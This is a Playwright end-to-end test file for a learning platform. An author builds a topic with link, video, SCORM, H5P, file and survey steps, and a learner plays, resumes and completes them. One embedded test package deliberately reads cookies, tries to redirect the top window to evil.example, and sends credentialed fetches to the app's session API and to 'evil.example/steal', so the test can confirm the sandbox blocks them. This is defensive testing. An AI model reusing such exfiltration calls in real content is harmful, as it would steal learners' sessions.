import { expect, type Page } from '@playwright/test';
import sharp from 'sharp';
import type { AuthoredTopic } from '#contract/learning/authoring.ts';
import type { ProgramPage } from '#contract/learning/programSummaries.ts';
import type { Program } from '#contract/learning/programs.ts';
import { apiAs } from '#test/journeys/support/api.ts';
import { ADMIN, LEARNER } from '#test/journeys/support/logins.ts';
import { openSurvey } from '#test/journeys/support/openSurvey.ts';
import { accessibilityViolations } from '#test/journeys/support/pageChecks.ts';
import { signIn } from '#test/journeys/support/people.ts';
import { type RunningServer, startServer } from '#test/journeys/support/startServer.ts';
import { test } from '#test/journeys/support/test.ts';
import { h5pOf, manifestOf, zipOf } from '#test/server/packages/packageFiles.ts';
import { CAPTIONS, webmOf } from '#test/server/packages/videoFiles.ts';

let server: RunningServer;
test.beforeAll(async () => {
  server = await startServer();
});
test.afterAll(() => server.dispose());

/** A package that works, and also does what a hostile package would try. */
const PAGE = `<!doctype html>
<html lang="en"><title>Difficult feedback</title>
<h1>Difficult feedback</h1>
<ul id="log"></ul>
<button id="next">Next page</button> <button id="finish">Finish</button>
<script>
const api = parent.API;
const embedder = parent.document.documentElement.dataset.embedder;
const log = (text) => { log.list.append(Object.assign(document.createElement('li'), { textContent: text })); };
log.list = document.getElementById('log');
api.LMSInitialize('');
log('position: ' + (api.LMSGetValue('cmi.suspend_data') || 'none'));
log('cookies: ' + (document.cookie || 'none'));
log('70 kB: ' + api.LMSSetValue('cmi.suspend_data', 'x'.repeat(70000)));
try { top.location.href = 'https://evil.example/'; log('top window: open'); } catch { log('top window: blocked'); }
for (const [name, url] of [['api', embedder + '/api/session'], ['external', 'https://evil.example/steal']])
  fetch(url, { credentials: 'include' }).then(() => log(name + ': open'), () => log(name + ': blocked'));
document.getElementById('next').onclick = () => {
  api.LMSSetValue('cmi.core.lesson_status', 'incomplete');
  api.LMSSetValue('cmi.suspend_data', 'page 2');
  api.LMSCommit('');
};
document.getElementById('finish').onclick = () => {
  api.LMSSetValue('cmi.core.score.raw', '84');
  api.LMSSetValue('cmi.core.lesson_status', 'passed');
  api.LMSFinish('');
};
</script></html>`;

/** A package of SCORM 2004 that is passed in 2 visits. */
const PAGE_2004 = `<!doctype html>
<html lang="en"><title>Two visits</title>
<h1>Two visits</h1><p id="position"></p><button id="finish">Finish</button>
<script>
const api = parent.API_1484_11;
api.Initialize('');
const position = api.GetValue('cmi.location');
document.getElementById('position').textContent = 'position: ' + (position || 'none');
api.SetValue('cmi.location', 'page 2');
api.Commit('');
document.getElementById('finish').onclick = () => {
  api.SetValue('cmi.score.scaled', '0.8');
  api.SetValue('cmi.completion_status', 'completed');
  api.SetValue('cmi.success_status', 'passed');
  api.Terminate('');
};
</script></html>`;

/** A selected topic that the demo learner has not completed. */
async function findTopic() {
  const learner = await apiAs(server.url, LEARNER);
  const { data } = (await learner.get<ProgramPage>('/api/programs')).body;
  for (const { programId } of data) {
    const { topics } = (await learner.get<Program>(`/api/programs/${programId}`)).body;
    const topic = topics.find(({ state }) => state === 'in_progress' || state === 'selected');
    if (topic) return { learner, programId, topicId: topic.topicId, title: topic.title };
  }
  throw new Error('The demo learner has no open topic');
}

const SURVEY = 'After the course';
const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });

test('an author uploads a package, and a learner plays, resumes and completes it', async ({ browser }) => {
  const { learner, programId, topicId } = await findTopic();
  await openSurvey(await apiAs(server.url, ADMIN), SURVEY);
  const author = await signIn(await browser.newContext(), server.url, ADMIN, `/content/topics/${topicId}`);

  await test.step('the author adds a link step', async () => {
    await button(author, 'Add step').click();
    // Styles are loaded with the component that needs them: no other menu has been opened on this page.
    await expect(author.locator('.user-menu')).not.toHaveCSS('background-color', 'rgba(0, 0, 0, 0)');
    await author.getByRole('menuitem', { name: /^Link/ }).click();
    await author.getByLabel('Step title').fill('Read the guide');
    await author.getByRole('textbox', { name: 'Text', exact: true }).fill('It is one page.');
    await author.getByLabel('Web address').fill('guide.example/feedback');
    await button(author, 'Image').click();
    const dialog = author.getByRole('dialog', { name: 'Add image' });
    const buffer = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#26a' } })
      .png()
      .toBuffer();
    await dialog
      .getByLabel('Upload image: file')
      .setInputFiles({ name: 'bridge.png', mimeType: 'image/png', buffer });
    await expect(button(author, 'Replace image')).toBeVisible();
    await button(author, 'Insert image').click();
    await expect(dialog.getByText('Enter an alternative text')).toBeVisible();
    await dialog.getByLabel('Alternative text').fill('A bridge');
    await button(author, 'Insert image').click();
    await expect(author.getByRole('img', { name: 'A bridge' })).toBeVisible();
    expect(await accessibilityViolations(author)).toEqual([]);
  });

  await test.step('the author adds a video step, which needs captions', async () => {
    await button(author, 'Add step').click();
    await author.getByRole('menuitem', { name: /^Video/ }).click();
    await author.getByLabel('Step title').fill('Watch the talk');
    await author.getByRole('textbox', { name: 'Text', exact: true }).fill('It is short.');
    const upload = (label: string, name: string, mimeType: string, buffer: Buffer) =>
      author.getByLabel(`${label}: file`).setInputFiles({ name, mimeType, buffer });
    await upload('Upload video', 'talk.webm', 'video/webm', await webmOf(2));
    await expect(author.getByText('2 s', { exact: true })).toBeVisible();
    await button(author, 'Publish').click();
    await expect(author.getByText('Captions are missing', { exact: true })).toBeVisible();
    await upload('Upload captions', 'talk.vtt', 'text/vtt', Buffer.from(CAPTIONS));
    await expect(button(author, 'Replace captions')).toBeVisible();
    expect(await accessibilityViolations(author)).toEqual([]);
  });

  await test.step('the author adds a package step and sees the report', async () => {
    await button(author, 'Add step').click();
    await author.getByRole('menuitem', { name: /^Package/ }).click();
    await author.getByLabel('Step title').fill('Play the course');
    await author.getByRole('textbox', { name: 'Text', exact: true }).fill('It takes 5 minutes.');
    const upload = async (name: string, label: string) =>
      author.getByLabel(`${label}: file`).setInputFiles({
        name,
        mimeType: 'application/zip',
        buffer: await zipOf({
          'imsmanifest.xml': manifestOf('scorm12', { title: 'Difficult feedback' }),
          ...(name === 'course.zip' && { 'index.html': PAGE }),
        }),
      });
    await upload('broken.zip', 'Upload package');
    await expect(author.getByText('“broken.zip” was refused')).toBeVisible();
    await upload('course.zip', 'Upload package');
    await expect(author.getByText('SCORM 1.2', { exact: true })).toBeVisible();
    await expect(author.getByText('evil.example. All are blocked.')).toBeVisible();
  });

  await test.step('the author adds packages of SCORM 2004 and H5P, a file and a survey', async () => {
    const add = async (kind: string, title: string) => {
      await button(author, 'Add step').click();
      await author.getByRole('menuitem', { name: new RegExp(`^${kind}`) }).click();
      await author.getByLabel('Step title').fill(title);
      await author.getByRole('textbox', { name: 'Text', exact: true }).fill('It takes 2 minutes.');
    };
    const upload = (label: string, name: string, buffer: Buffer) =>
      author
        .getByLabel(`${label}: file`)
        .setInputFiles({ name, mimeType: 'application/octet-stream', buffer });
    await add('Package', 'Come back once');
    await upload(
      'Upload package',
      'visits.zip',
      await zipOf({
        'imsmanifest.xml': manifestOf('scorm2004', { title: 'Two visits' }),
        'index.html': PAGE_2004,
      }),
    );
    await expect(author.getByText('SCORM 2004', { exact: true })).toBeVisible();
    await add('Package', 'Answer a question');
    await upload('Upload package', 'question.h5p', await h5pOf());
    await expect(author.getByText('H5P', { exact: true })).toBeVisible();
    await expect(author.getByText('completion, passed or failed, score, and position')).toBeVisible();
    await add('File', 'Take the list');
    await upload('Upload file', 'list.txt', Buffer.from('1. Ask first'));
    await expect(button(author, 'Replace file')).toBeVisible();
    await add('Survey', 'Say how it was');
    await author.getByLabel('Survey', { exact: true }).selectOption({ label: SURVEY });
    await button(author, 'Publish').click();
    await author.getByRole('dialog').getByRole('textbox').fill('With a course');
    await author
      .getByRole('dialog')
      .getByRole('button', { name: /^Publish/ })
      .click();
    await expect(author.getByText(/is published\./)).toBeVisible();
  });

  const admin = await apiAs(server.url, ADMIN);
  const { versions } = (await admin.get<AuthoredTopic>(`/api/topics/${topicId}`)).body;
  await learner.put(`/api/programs/${programId}/topics/${topicId}/version`, { version: versions[0]?.n });
  const context = await browser.newContext({ viewport: { width: 390, height: 844 } });
  const page = await signIn(context, server.url, LEARNER, `/program/${programId}`);
  const errors: string[] = [];
  page.on('pageerror', ({ message }) => errors.push(message));
  const player = page.getByRole('dialog', { name: 'Difficult feedback' });
  const frameOf = (title: string) => page.frameLocator(`iframe[title="${title}"]`).frameLocator('iframe');
  const course = frameOf('Difficult feedback');
  const openStep = async (title: string, name: string) => {
    const step = page.getByRole('button', { name: title, exact: true });
    if ((await step.getAttribute('aria-expanded')) !== 'true') await step.click();
    await page.getByRole('listitem').filter({ has: step }).last().getByRole('button', { name }).click();
  };

  await test.step('the package plays on another host and cannot access the application', async () => {
    await openStep('Play the course', 'Start package');
    await expect(course.getByRole('listitem')).toHaveText([
      'position: none',
      'cookies: none',
      '70 kB: false',
      'top window: blocked',
      /^(api|external): blocked$/,
      /^(api|external): blocked$/,
    ]);
    await expect(player.getByText(/tried to store a position of more than 64 kB/)).toBeVisible();
    expect(page.url()).toContain(server.url);
    await course.getByRole('button', { name: 'Next page' }).click();
    await expect(player.getByRole('status')).toHaveText('Saved');
    expect(await accessibilityViolations(page)).toEqual([]);
  });

  await test.step('it resumes after a reload and completes the step', async () => {
    await page.reload();
    await openStep('Play the course', 'Continue package');
    await expect(course.getByRole('listitem').first()).toHaveText('position: page 2');
    await course.getByRole('button', { name: 'Finish' }).focus();
    await page.keyboard.press('Enter');
    await expect(player.getByRole('status')).toHaveText('The package has ended. You can exit.');
    await page.keyboard.press('Tab');
    await expect(button(page, 'End of package: exit')).toBeFocused();
    await page.keyboard.press('Enter');
    await expect(player).toHaveCount(0);
    await expect(page.getByText('Attempt 1: Passed · Score 84 of 100')).toBeVisible();
    await expect(button(page, 'Open again')).toBeVisible();
  });

  await test.step('SCORM 2004 plays, resumes after a reload and completes the step', async () => {
    const visits = frameOf('Two visits');
    const status = page.getByRole('dialog', { name: 'Two visits' }).getByRole('status');
    await openStep('Come back once', 'Start package');
    await expect(visits.getByText('position: none')).toBeVisible();
    await expect(status).toHaveText('Saved');
    await page.reload();
    await openStep('Come back once', 'Continue package');
    await expect(visits.getByText('position: page 2')).toBeVisible();
    await visits.getByRole('button', { name: 'Finish' }).click();
    await expect(status).toHaveText('The package has ended. You can exit.');
    await button(page, 'Exit package').click();
    await expect(page.getByText('Attempt 1: Passed · Score 80%')).toBeVisible();
  });

  await test.step('H5P plays, resumes after a reload and completes the step', async () => {
    const question = frameOf('One question');
    const dialog = page.getByRole('dialog', { name: 'One question' });
    await openStep('Answer a question', 'Start package');
    await expect(question.getByText('Looked 1')).toBeVisible();
    // An error of the core at its start would leave its frame at 150 px, and the rest of the content cut off.
    expect(errors).toEqual([]);
    await expect(dialog.getByRole('status')).toHaveText('Saved');
    expect(await accessibilityViolations(page)).toEqual([]);
    await page.reload();
    await openStep('Answer a question', 'Continue package');
    await expect(question.getByText('Looked 2')).toBeVisible();
    await question.getByRole('button', { name: 'What have you tried?' }).click();
    await expect(dialog.getByRole('status')).toHaveText('Saved');
    await button(page, 'Exit package').click();
    await expect(page.getByText('Attempt 1: Passed · Score 1 of 1')).toBeVisible();
  });

  await test.step('the downloaded file and the answered survey complete their steps', async () => {
    const doneIn = (title: string) =>
      page
        .getByRole('listitem')
        .filter({ has: page.getByRole('button', { name: title, exact: true }) })
        .last()
        .getByText(/^Done/);
    const download = page.waitForEvent('download');
    await openStep('Take the list', 'Download file');
    expect((await download).suggestedFilename()).toBe('list.txt');
    await expect(doneIn('Take the list')).toBeVisible();
    await page.reload();
    const survey = page.getByRole('button', { name: 'Say how it was', exact: true });
    if ((await survey.getAttribute('aria-expanded')) !== 'true') await survey.click();
    await page.getByRole('link', { name: 'Answer survey' }).click();
    await button(page, 'Start').click();
    await page.getByRole('radio').nth(3).click();
    await button(page, 'Submit answers').click();
    await page.getByRole('link', { name: 'Back to program' }).click();
    await expect(doneIn('Say how it was')).toBeVisible();
    expect(new URL(page.url()).pathname).toBe(`/program/${programId}`);
  });

  await test.step('the link leads to the page, and the learner completes the step', async () => {
    const title = page.getByRole('button', { name: 'Read the guide', exact: true });
    if ((await title.getAttribute('aria-expanded')) !== 'true') await title.click();
    await expect(page.getByRole('link', { name: 'Open guide.example in a new tab' })).toHaveAttribute(
      'href',
      'https://guide.example/feedback',
    );
    const image = page.getByRole('img', { name: 'A bridge' });
    await expect.poll(() => image.evaluate((one: HTMLImageElement) => one.naturalWidth)).toBe(40);
    expect(await accessibilityViolations(page)).toEqual([]);
    await button(page, 'Mark as done').click();
    await expect(title).toHaveAttribute('aria-expanded', 'false');
  });

  await test.step('the video plays with captions, and completes the step once it has been watched', async () => {
    const title = page.getByRole('button', { name: 'Watch the talk', exact: true });
    if ((await title.getAttribute('aria-expanded')) !== 'true') await title.click();
    const step = page.getByRole('listitem').filter({ has: title }).last();
    await step.getByRole('button', { name: 'Play video' }).click();
    const player = step.locator('video');
    await expect(player).toBeFocused();
    await expect
      .poll(() => player.evaluate((video: HTMLVideoElement) => video.textTracks[0]?.cues?.length))
      .toBe(1);
    await expect(step.getByText(/^Done/)).toBeVisible();
    expect(await accessibilityViolations(page)).toEqual([]);
  });

  await test.step('the author sees the blocked hosts', async () => {
    await author.reload();
    await author.getByRole('button', { name: 'Play the course', exact: true }).click();
    await expect(author.getByText(/Learners’ browsers have blocked: .*evil\.example/)).toBeVisible();
    await expect(author.getByText(/a position of 70 kB/)).toBeVisible();
  });
});
